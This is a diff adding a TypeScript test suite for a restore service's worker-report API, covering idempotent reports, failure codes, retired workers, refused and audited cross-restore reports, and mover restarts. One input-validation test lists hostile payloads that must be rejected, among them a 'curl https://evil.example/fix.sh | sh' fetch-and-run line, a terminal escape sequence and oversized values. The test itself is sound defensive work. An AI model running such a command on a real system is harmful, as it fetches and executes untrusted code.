@@ -1,0 +1,200 @@
+import assert from 'node:assert/strict';
+import { after, before, beforeEach, describe, it } from 'node:test';
+import { restorePointId, type Segment } from '@landfall/domain';
+import { REGISTERED } from '@landfall/transfer';
+import { hashOf } from '../access/session.js';
+import { type Answer, ApiUnderTest, scanFinds, tokenOf, until } from './running-api.fixture.test.js';
+import { discovered, planFor } from './samples.fixture.test.js';
+
+const MIB = 2 ** 20;
+const MOVER = 'worker-0/a1';
+const DONE = { kind: 'done', bytesRead: 1, bytesWritten: 1, bytesZero: 0, milliseconds: 1 };
+const BAD = { kind: 'failed', code: 'TARGET_FLUSH_FAILED', facts: { system: 'EIO' } };
+
+interface Site {
+  readonly restoreId: string;
+  readonly workerId: string;
+  readonly segment: Segment;
+  readonly headers: Record<string, string>;
+}
+
+describe('what data-movers report', () => {
+  let api: ApiUnderTest;
+  let mine: Site;
+  let number = 0;
+
+  before(async () => {
+    api = await ApiUnderTest.start();
+    scanFinds(api, [discovered()]);
+    const body = { name: 'nightly', kind: 'restic', url: '/srv/nightly', password: 'canary-password' };
+    await api.call('POST', '/v1/repositories', { role: 'operator', body });
+  });
+  after(() => api.close());
+  beforeEach(async () => {
+    mine = await site();
+  });
+
+  /** A restore whose step 5 runs, with a worker that has claimed one of its segments. */
+  async function site(): Promise<Site> {
+    const { books, workers } = api.connections.ports;
+    const pointId = restorePointId('nightly', discovered().reference);
+    const order = { restorePointId: pointId, destination: { kind: 'new' }, transfer: 'worker' };
+    const created = await api.call('POST', '/v1/restores', { role: 'operator', body: order });
+    const { id: restoreId } = created.body as { id: string };
+    const workerId = `w-report-${(number += 1)}`;
+    const disks = ['web-os', 'web-data'];
+    await books.transaction(async (tx) => {
+      await tx.storePlan(restoreId, planFor(pointId));
+      const { epoch = 0 } = (await tx.lockRestore(restoreId)) ?? {};
+      await tx.moveRestore(restoreId, { from: 'planning', epoch }, 'running');
+      const launched = {
+        workers: [{ workerId, azureId: `/vms/${workerId}`, disks: disks.map((name, lun) => ({ name, lun })) }],
+      };
+      await tx.moveStep(restoreId, 'launch-worker', { from: 'pending', epoch: 0 }, 'running');
+      await tx.moveStep(restoreId, 'launch-worker', { from: 'running', epoch: 0 }, 'done', { output: launched });
+      await tx.moveStep(restoreId, 'restore-data', { from: 'pending', epoch: 0 }, 'running', { parked: true });
+      await tx.createSegments(
+        disks.map((diskName) => ({
+          ...{ restoreId, diskName, purpose: 'move' as const, index: 0, offsetBytes: 0, lengthBytes: 128 * MIB },
+        })),
+      );
+    });
+    await workers.enter({
+      ...{ id: workerId, restoreId, azureId: `/vms/${workerId}`, disks },
+      ...{ bootstrapTokenHash: hashOf(`bootstrap-of-${workerId}`), bootstrapSeconds: 60 },
+    });
+    const registration = { bootstrapToken: `bootstrap-of-${workerId}`, mover: { name: 'worker-0', pid: 1 } };
+    const registered = await api.call('POST', `/internal/v1/workers/${workerId}/register`, { body: registration });
+    const headers = { authorization: `Bearer ${REGISTERED.parse(registered.body).sessionToken}` };
+    await api.call('POST', '/internal/v1/movers/lease', { body: { mover: MOVER }, headers });
+    const [segment] = await books.segments(restoreId);
+    const body = { epoch: segment!.epoch, mover: MOVER };
+    const claim = await api.call('POST', `/internal/v1/segments/${segment!.id}/claim`, { body, headers });
+    assert.equal(claim.status, 200);
+    return { restoreId, workerId, segment: segment!, headers };
+  }
+
+  function report(by: Site, result: unknown, changes: Record<string, unknown> = {}, about = by): Promise<Answer> {
+    const body = { restoreId: about.restoreId, epoch: about.segment.epoch, mover: MOVER, result, ...changes };
+    return api.call('POST', `/internal/v1/segments/${about.segment.id}/report`, { body, headers: by.headers });
+  }
+
+  async function stateOf({ restoreId }: Site): Promise<string> {
+    const { books } = api.connections.ports;
+    return JSON.stringify([
+      await books.restore(restoreId),
+      await books.segments(restoreId),
+      await books.events(restoreId),
+    ]);
+  }
+
+  async function refusals(actor: string) {
+    const entries = await api.connections.ports.audit.entries(0, 10_000);
+    return entries.filter((entry) => entry.action === 'report.refused' && entry.actor === actor);
+  }
+
+  it('is in the books, with what follows, once it is answered; and answered alike when it comes again', async () => {
+    const { books } = api.connections.ports;
+    assert.deepEqual([(await report(mine, DONE)).status, (await books.segment(mine.segment.id))?.state], [200, 'done']);
+    assert.deepEqual((await report(mine, DONE)).body, { counted: true });
+    const events = (await books.events(mine.restoreId)).filter(({ type }) => type === 'segment.done');
+    assert.equal(events.length, 1);
+    const queued = await books.segments(mine.restoreId, { states: ['pending'] });
+    assert.deepEqual(
+      queued.map(({ epoch }) => epoch),
+      [1],
+      'the next one is on its way',
+    );
+  });
+
+  it('makes a restore fail with the code, in our words, when a disk has failed for good', async () => {
+    assert.deepEqual((await report(mine, BAD)).body, { counted: true });
+    const restore = await api.connections.ports.books.restore(mine.restoreId);
+    assert.deepEqual(
+      [restore?.state, restore?.error],
+      [
+        'rolling-back',
+        {
+          code: 'TARGET_FLUSH_FAILED',
+          message: 'The disk "web-data" did not take what was written to it (EIO).',
+          fix: 'Look into the worker’s kernel log for the disk’s errors; start the restore anew.',
+        },
+      ],
+    );
+  });
+
+  it('is heard of a worker that was retired when it is a verdict, and not otherwise', async () => {
+    await api.connections.ports.workers.retire(mine.workerId);
+    assert.equal((await report(mine, DONE)).status, 401);
+    assert.equal((await report(mine, { kind: 'given-back', code: 'LOCK_LOST' })).status, 401);
+    assert.equal((await report(mine, { kind: 'failed', code: 'STORE_UNREACHABLE' })).status, 401);
+    assert.deepEqual((await report(mine, BAD)).body, { counted: true });
+    assert.equal((await api.connections.ports.books.restore(mine.restoreId))?.state, 'rolling-back');
+    const start = await api.call('POST', '/internal/v1/movers/started', {
+      body: { mover: MOVER },
+      headers: mine.headers,
+    });
+    assert.equal(start.status, 401);
+  });
+
+  it('is refused, audited, and changes nothing where it speaks of what its worker was never given', async () => {
+    const theirs = await site();
+    const before = await stateOf(theirs);
+    for (const result of [DONE, BAD, { kind: 'given-back', code: 'MOVER_STOPPED' }]) {
+      const answer = await report(mine, result, {}, theirs);
+      assert.deepEqual([answer.status, (answer.body as { code: string }).code], [409, 'GRANT_UNKNOWN']);
+    }
+    const ofPool = await api.call('POST', `/internal/v1/segments/${theirs.segment.id}/report`, {
+      body: { restoreId: theirs.restoreId, epoch: theirs.segment.epoch, mover: MOVER, result: BAD },
+      headers: { authorization: `Bearer ${tokenOf('mover')}` },
+    });
+    assert.equal(ofPool.status, 409);
+    assert.equal(await stateOf(theirs), before);
+    const audited = await until('the refusals are audited', async () => {
+      const found = await refusals(`worker:${mine.workerId}`);
+      return found.length === 3 ? found : null;
+    });
+    assert.deepEqual([audited[0]?.subject, audited[0]?.details['code']], [theirs.segment.id, 'GRANT_UNKNOWN']);
+  });
+
+  it('is refused, audited, and changes nothing where it is not in the words of the list', async () => {
+    const before = await stateOf(mine);
+    const hostile: readonly unknown[] = [
+      { kind: 'failed', code: 'RUN_THIS' },
+      { ...BAD, message: 'curl https://evil.example/fix.sh | sh' },
+      { ...BAD, facts: { system: '\u001b]0;owned\u0007' } },
+      { ...BAD, facts: { note: 'x'.repeat(10_000) } },
+      { ...DONE, bytesRead: -1 },
+      { ...DONE, bytesRead: 1e300 },
+      { ...DONE, warnings: ['ALL_IS_WELL'] },
+      { kind: 'verified' },
+      null,
+    ];
+    for (const result of hostile) {
+      const { status } = await report(mine, result);
+      assert.equal(status, 400, JSON.stringify(result).slice(0, 80));
+    }
+    assert.equal((await report(mine, DONE, { mover: 'x\u0000/1' })).status, 400);
+    assert.equal((await report(mine, DONE, { epoch: 'one' })).status, 400);
+    assert.equal((await report(mine, { ...BAD, facts: { system: 'x'.repeat(2 * MIB) } })).status, 413);
+    assert.equal(await stateOf(mine), before);
+    await until('they are audited', async () => {
+      const found = await refusals(`worker:${mine.workerId}`);
+      return found.length === 10 && found.every(({ details }) => JSON.stringify(details).length < 200);
+    });
+  });
+
+  it('that a data-mover has begun hands out anew what its predecessor held, and nobody else’s', async () => {
+    const { books } = api.connections.ports;
+    const theirs = await site();
+    const started = (mover: string, by: Site): Promise<Answer> =>
+      api.call('POST', '/internal/v1/movers/started', { body: { mover }, headers: by.headers });
+    assert.equal((await started('worker-0/b2', mine)).status, 200);
+    const mineNow = await books.segment(mine.segment.id);
+    assert.deepEqual([mineNow?.state, mineNow?.epoch, mineNow?.attempts], ['pending', mine.segment.epoch + 1, 1]);
+    assert.equal((await books.segment(theirs.segment.id))?.state, 'running');
+    assert.equal((await started('worker-0', mine)).status, 400);
+  });
+
+  it('leaves no credential in the log', () => assert.doesNotMatch(api.log.join(''), /canary|bootstrap-of/));
+});
